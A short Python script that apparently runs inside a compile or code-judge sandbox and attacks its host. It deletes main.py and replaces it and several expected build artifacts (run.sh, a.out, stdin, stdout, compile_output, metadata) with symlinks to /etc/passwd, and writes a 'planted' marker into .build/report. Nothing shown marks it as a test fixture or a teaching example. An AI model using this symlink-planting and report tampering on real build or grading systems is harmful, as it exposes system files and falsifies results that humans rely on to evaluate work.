# Run as a compiler: links where a careless host would write the script, the program or the source of the next step.
import os

for name in ("run.sh", "run", "a.out", "stdin", "stdout", "compile_output", "metadata"):
    os.symlink("/etc/passwd", name)
os.unlink("main.py")
os.symlink("/etc/passwd", "main.py")
with open(".build/report", "w") as report:
    report.write("planted\n")
